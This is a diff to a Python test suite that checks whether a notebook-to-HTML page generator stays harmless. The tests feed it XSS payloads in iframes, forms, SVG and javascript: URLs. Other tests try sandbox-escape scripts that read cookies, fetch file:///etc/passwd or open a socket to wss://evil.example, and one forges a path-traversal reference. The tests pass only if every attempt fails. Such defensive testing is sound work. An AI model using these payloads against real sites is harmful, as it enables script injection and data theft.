@@ -49,9 +49,9 @@ PAYLOADS = [
     '<div class="fault log site filter sign is-good" id="log">as the page itself</div>',
     f'<base href="{_URL}"><base target="_blank">',
     f'<meta http-equiv="refresh" content="0;url={_URL}">',
-    f'<form action="{_URL}"><input name="a" autofocus onfocus="{HACK}"><button>send</button></form>',
+    f'<form action="{_URL}"><input autofocus onfocus="{HACK}"><button>send</button></form>',
     f'<iframe src="{_URL}"></iframe><iframe srcdoc="&lt;script&gt;{HACK}&lt;/script&gt;"></iframe>',
-    f"<iframe src=\"javascript:{HACK}\"></iframe>",
+    f'<iframe src="javascript:{HACK}"></iframe>',
     f'<object data="{_URL}a.swf"></object><embed src="{_URL}a.swf">',
     f'<object data="data:text/html,<script>{HACK}</script>"></object>',
     f'<video src="{_URL}" poster="{_URL}"></video><audio src="{_URL}"></audio>',
@@ -110,7 +110,7 @@ _SHAPE = """() => ({
   headings: document.querySelectorAll('h1').length,
   shown: [...document.querySelectorAll('body, header, main, footer, h1')]
     .every(one => one.checkVisibility({visibilityProperty: true, opacityProperty: true})),
-  top: [...document.querySelectorAll('header.site a, header.site span, h1')].every(one => {
+  top: [...document.querySelectorAll('header.site, h1')].every(one => {
     const {x, y, width, height} = one.getBoundingClientRect();
     return y > 800 || one.contains(document.elementFromPoint(x + width / 2, y + height / 2));
   }),
@@ -149,8 +149,12 @@ def nothing_happened(tab: Tab, title: str) -> None:
 def executed(project: TemporaryProject, profile: str, stage: str, *cells: Any) -> None:  # noqa: ANN401
     """Put a notebook in the place of one that the newest run has left."""
     path = project.runs(profile)[-1] / "notebooks" / f"{stage}.ipynb"
-    made = new_notebook(cells=[*cells], metadata={"language_info": {"name": "python"}})
-    # Not what a validator would let through.
+    made = {
+        "cells": [*cells],
+        "metadata": {"language_info": {"name": "python"}},
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    }
     path.write_text(json.dumps(made, indent=1, sort_keys=True, ensure_ascii=False), "utf-8")
 
 
@@ -159,8 +163,12 @@ def hostile_cells() -> list[Any]:
     cells: list[Any] = []
     for text in PAYLOADS:
         cells += [new_markdown_cell(text), new_markdown_cell(f"# {text}\n\n- {text}\n\n> {text}")]
-        cells.append(new_markdown_cell(f"| a | b |\n|---|---|\n| {text} | `{text}` |\n\n    {text}"))
-        cells.append(new_markdown_cell(f"$\\text{{{text}}}$ and $$\\text{{{text}}}$$ $\\href{{{text}}}x$"))
+        cells.append(
+            new_markdown_cell(f"| a | b |\n|---|---|\n| {text} | `{text}` |\n\n    {text}")
+        )
+        cells.append(
+            new_markdown_cell(f"$\\text{{{text}}}$ and $$\\text{{{text}}}$$ $\\href{{{text}}}x$")
+        )
         cells.append(new_raw_cell(text))
         displays = [
             {"text/plain": text},
@@ -175,7 +183,9 @@ def hostile_cells() -> list[Any]:
         ]
         outputs = [new_output("display_data", data=one) for one in displays]
         outputs.append(new_output("stream", name="stdout", text=f"{text}\n\x1b[31m{text}\x1b[0m\n"))
-        outputs.append(new_output("stream", name=text, text="\x1b]8;;javascript:1\x07x\x1b]8;;\x07"))
+        outputs.append(
+            new_output("stream", name=text, text="\x1b]8;;javascript:1\x07x\x1b]8;;\x07")
+        )
         outputs.append(new_output("error", ename=text, evalue=text, traceback=[text, text]))
         outputs.append(new_output("error", ename=text, evalue=text, traceback=[]))
         cell = new_code_cell(f"'''{text}'''  # {text}", outputs=outputs)
@@ -197,21 +207,25 @@ def hostile_cells() -> list[Any]:
 def hostile(tmp_path_factory: pytest.TempPathFactory) -> TemporaryProject:
     """Give a project that means harm, and its pages."""
     project = TemporaryProject(tmp_path_factory.mktemp("a") / "<b>hostile & odd'")
-    parameters = f'output_table = "../outputs/test/t.csv"\ntext = {ODD!r}\nlists = [{ODD!r}]\nn = 1\n'
+    parameters = (
+        f'output_table = "../outputs/test/t.csv"\ntext = {ODD!r}\nlists = [{ODD!r}]\nn = 1\n'
+    )
     for suffix in ("json", "txt", "md", "svg", "html", "png", "tsv"):
         parameters += f'output_{suffix} = """../outputs/test/{NAME}.{suffix}"""\n'
-    write = [
-        "import csv",
-        "import json",
-        f"rows = [[{ODD!r}, 'b']] * 3",
-        "csv.writer(open(output_table, 'w', newline='')).writerows(rows)",
-        "csv.writer(open(output_tsv, 'w', newline=''), delimiter='\\t').writerows(rows)",
-        f"json.dump({{{ODD!r}: n, 'list': [{ODD!r}]}}, open(output_json, 'w'))",
-        "for name in (output_txt, output_md, output_html, output_png):",
-        f"    open(name, 'w').write({ODD!r})",
-        f"open(output_svg, 'w').write('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>' + {HACK!r} + '</script></svg>')",
-    ]
-    project.notebook(NAME, "\n".join(write).replace("open(", "__import__('io').open("), parameters=parameters)
+    write = f"""
+import json
+from pathlib import Path
+
+rows = [[{ODD!r}.replace(",", ";"), "b"]] * 3
+Path(output_table).write_text("\\n".join(map(",".join, rows)))
+Path(output_tsv).write_text("\\n".join(map("\\t".join, rows)))
+Path(output_json).write_text(json.dumps({{{ODD!r}: n, "list": [{ODD!r}]}}))
+for name in (output_txt, output_md, output_html, output_png):
+    Path(name).write_text({ODD!r})
+svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>' + {HACK!r} + "</script></svg>"
+Path(output_svg).write_text(svg)
+"""
+    project.notebook(NAME, write, parameters=parameters)
     project.profile("all", f"{json.dumps(NAME)}:\n  text: {json.dumps(ODD)}\n")
     raise_it = f"raise type({ODD!r}, (Exception,), {{}})({ODD!r})"
     project.notebook(
@@ -247,41 +261,55 @@ def test_nothing_that_is_shown_changes_the_page_or_runs(
             nothing_happened(tab, name)
 
 
+# What a script in a frame may want; each fails, at once or later.
+TRIES = {
+    "parent's document": "parent.document.title = 'hacked'",
+    "top's document": "top.document.body.innerHTML = ''",
+    "parent's name": "parent.hacked = 1",
+    "parent's script": "parent.eval('1')",
+    "top's place": f"top.location = '{_URL}'",
+    "top's place by a link": f"open('{_URL}', '_top').x",
+    "storage": "localStorage.setItem('a', 1)",
+    "cookie": "document.cookie = 'a=1'",
+    "database": "indexedDB.open('a')",
+    "another window": f"open('{_URL}').x",
+    "the element of the frame": "frameElement.sandbox = ''",
+    "eval": "eval('1')",
+}
+LATER = {
+    "fetch": f"await fetch('{_URL}')",
+    "a file": "await fetch('file:///etc/passwd')",
+    "a beacon": f"if (!navigator.sendBeacon('{_URL}')) throw 1; else throw 2",
+    "a socket": "await came(new WebSocket('wss://evil.example'), 'open')",
+    "a picture": f"await came(Object.assign(new Image(), {{src: '{_URL}a.png'}}))",
+    "a script": f"await came(made('script', {{src: '{_URL}a.js'}}))",
+    "its own script": "made('script', {textContent: 'own = 1'}); if (!self.own) throw 1",
+    "a style sheet": f"await came(made('link', {{rel: 'stylesheet', href: '{_URL}a.css'}}))",
+    "a worker": "await came(new Worker('data:text/javascript,postMessage(1)'), 'message')",
+}
+_HELP = """
+const came = (one, kind = 'load') => new Promise((yes, no) => {
+  one.addEventListener(kind, yes); one.addEventListener('error', no);
+});
+const made = (tag, about) => {
+  const one = Object.assign(document.createElement(tag), about);
+  document.head.append(one);
+  return one;
+};
+"""
+
+
+def _tried(name: str, code: str) -> str:
+    """Write a script that tries something, and says whether it got it."""
+    said = json.dumps(name)
+    return (
+        f"(async () => {{ {code} }})().then(() => say('GOT', {said}), () => say('no', {said}));\n"
+    )
+
+
 def test_a_script_in_a_frame_stays_in_it(project: TemporaryProject, looker: Looker) -> None:
-    tries = {
-        "parent's document": "parent.document.title = 'hacked'",
-        "top's document": "top.document.body.innerHTML = ''",
-        "parent's name": "parent.hacked = 1",
-        "parent's script": "parent.eval('1')",
-        "top's place": f"top.location = '{_URL}'",
-        "top's place by a link": f"open('{_URL}', '_top').x",
-        "storage": "localStorage.setItem('a', 1)",
-        "cookie": "document.cookie = 'a=1'",
-        "database": "indexedDB.open('a')",
-        "another window": f"open('{_URL}').x",
-        "the element of the frame": "frameElement.sandbox = ''",
-        "eval": "eval('1')",
-        "a worker": "new Worker('data:text/javascript,1').x.y",
-    }
-    later = {
-        "fetch": f"fetch('{_URL}')",
-        "file": "fetch('file:///etc/passwd')",
-        "beacon": f"new Promise((yes, no) => navigator.sendBeacon('{_URL}') ? no() : no())",
-        "request": f"new Promise((yes, no) => {{ const r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open('GET', '{_URL}'); r.send(); }})",
-        "socket": "new Promise((yes, no) => { const s = new WebSocket('wss://evil.example'); s.onopen = yes; s.onerror = no; })",
-        "picture": f"new Promise((yes, no) => {{ const i = new Image(); i.onload = yes; i.onerror = no; i.src = '{_URL}a.png'; }})",
-        "script": f"new Promise((yes, no) => {{ const s = document.createElement('script'); s.onload = yes; s.onerror = no; s.src = '{_URL}a.js'; document.head.append(s); }})",
-        "own script": "new Promise((yes, no) => { const s = document.createElement('script'); s.textContent = 'window.own = 1'; document.head.append(s); window.own ? yes() : no(); })",
-        "style": f"new Promise((yes, no) => {{ const s = document.createElement('link'); s.rel = 'stylesheet'; s.onload = yes; s.onerror = no; s.href = '{_URL}a.css'; document.head.append(s); }})",
-    }
-    script = "".join(
-        f"try {{ {code}; console.log({json.dumps(f'GOT {name}')}) }} catch {{ console.log({json.dumps(f'no {name}')}) }}\n"
-        for name, code in tries.items()
-    )
-    script += "".join(
-        f"(async () => {code})().then(() => console.log({json.dumps(f'GOT {name}')}), () => console.log({json.dumps(f'no {name}')}));\n"
-        for name, code in later.items()
-    )
+    script = f"{_HELP}const say = (...words) => console.log(words.join(' '));\n"
+    script += "".join(_tried(*one) for one in (*TRIES.items(), *LATER.items()))
     script += f"""
 document.body.insertAdjacentHTML('beforeend', `<form action='{_URL}'></form>
   <iframe src='{_URL}'></iframe><a href='{_URL}' target=_top download>a</a>
@@ -320,7 +348,7 @@ setTimeout(() => {{ location = '{_URL}?' + document.body.textContent }}, 100);
         tab.page.wait_for_timeout(1500)
         said = "\n".join(tab.said)
         assert said.count("ran to its end") == 3, said
-        for name in (*tries, *later):
+        for name in (*TRIES, *LATER):
             assert f"GOT {name}" not in said
             assert said.count(f"log: no {name}\n") == 3, name
         nothing_happened(tab, "a: succeeded")
@@ -355,6 +383,28 @@ def test_what_is_large_is_as_harmless(project: TemporaryProject, looker: Looker)
         nothing_happened(tab, "a: succeeded")
 
 
+def test_no_notebook_says_which_file_a_page_reads(project: TemporaryProject) -> None:
+    project.profile("all")
+    project.notebook("a", "1")
+    project.pretend("all")
+    project.write("other.html", "<p>not for the page</p>")
+    # As what stands for a large text, and how that could be forged.
+    forged = {"runner-large": ["../../../../../other.html", 70_000, "the head"]}
+    cells = []
+    for kind in ("text/html", "text/plain", "text/markdown", "image/png", "application/json"):
+        cell = new_code_cell("f", outputs=[new_output("display_data")])
+        cell.outputs[0].data = {kind: forged}
+        cells.append(cell)
+    executed(project, "all", "a", *cells)
+    project.call("show", "all")
+    project.call("show", "all", "--single", "one.html")
+    (page,) = project.outputs("all").glob("pages/*/a.html")
+    for text in (page.read_text("utf-8"), (project.root / "one.html").read_text("utf-8")):
+        assert "not for the page" not in text
+        assert base64.b64encode(b"not for the page").decode()[:-4] not in text
+        assert not re.search(r'(href|src)="[^"]*other.html', text)
+
+
 def test_a_widget_and_a_picture_that_is_none_are_harmless(
     project: TemporaryProject, looker: Looker
 ) -> None:
@@ -380,7 +430,7 @@ def test_a_widget_and_a_picture_that_is_none_are_harmless(
     path = project.runs("all")[-1] / "notebooks/a.ipynb"
     picture = base64.b64encode(png()).decode()
     for kind in ("image/png", "image/jpeg", "image/gif"):
-        for value in (picture[:40], f"{picture}\"><script>{HACK}</script>", "%%%", [picture, 1]):
+        for value in (picture[:40], f'{picture}"><script>{HACK}</script>', "%%%", [picture, 1]):
             cell = new_code_cell("p", outputs=[new_output("display_data")])
             cell.outputs[0].data = {kind: value}
             made.cells.append(cell)
